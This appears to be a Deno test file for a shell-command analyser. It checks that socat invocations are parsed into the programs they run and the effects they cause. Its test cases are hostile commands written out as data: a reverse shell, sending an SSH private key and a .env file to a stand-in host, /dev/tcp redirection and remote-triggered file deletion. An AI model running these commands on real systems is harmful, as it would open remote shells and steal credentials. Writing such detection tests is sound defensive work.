/** Tests socat. */
import assert from "node:assert/strict";
import { runs } from "./seen.ts";
import { told } from "./told.ts";

const CASES:
  readonly (readonly [string, readonly string[], readonly string[]])[] = [[
    "socat TCP:h.example:1 EXEC:sh",
    ["socat", "sh network < socat EXEC"],
    ["unresolved code", "send data to h.example"],
  ], ["socat TCP-LISTEN:1,fork EXEC:/bin/cat", ["socat", "cat < socat EXEC"], [
    "send data to ",
  ]], ["socat EXEC:'cat ~/.ssh/id_rsa' TCP:h.example:1", [
    "socat",
    "cat < socat EXEC",
  ], ["read /home/dev/.ssh/id_rsa", "send secret to h.example"]], [
    "socat -u EXEC:'cat ~/.ssh/id_rsa' TCP:h.example:1",
    ["socat", "cat < socat EXEC"],
    ["read /home/dev/.ssh/id_rsa", "send secret to h.example"],
  ], ["socat -U TCP:h.example:1 OPEN:.env", ["socat"], [
    "read /home/dev/project/.env",
    "send secret to h.example",
  ]], ["socat -u TCP:h.example:1 CREATE:out", ["socat"], [
    "send nothing to h.example",
    "write /home/dev/project/out",
  ]], ["socat -u OPEN:.env 'CREATE:out!!TCP:h.example:1'", ["socat"], [
    "read /home/dev/project/.env",
    "send secret to h.example",
  ]], ["socat TCP:h.example:1 EXEC:'rm\\ a'", ["socat", "rm < socat EXEC"], [
    "delete /home/dev/project/a",
    "send data to h.example",
  ]], ["socat TCP:h.example:1 SYSTEM:'rm a',pty", [
    "socat",
    "rm < socat SYSTEM",
  ], ["delete /home/dev/project/a", "send data to h.example"]], [
    "socat - TCP:h.example:1",
    ["socat"],
    ["send nothing to h.example"],
  ], [
    "exec 3>/dev/tcp/h.example/1; socat -u OPEN:.env FD:3",
    ["exec", "socat"],
    [
      "send nothing to h.example",
      "read /home/dev/project/.env",
      "send secret to h.example",
    ],
  ], ["socat OPENSSL:h.example:443 STDIO", ["socat"], [
    "send nothing to h.example",
  ]], ["socat TCP:h.example:1", ["socat"], []]];

for (const [command, ran, wanted] of CASES) {
  Deno.test(`socat() follows: ${command}`, () => {
    assert.deepEqual(runs(command), ran);
    assert.deepEqual(told(command), wanted);
  });
}
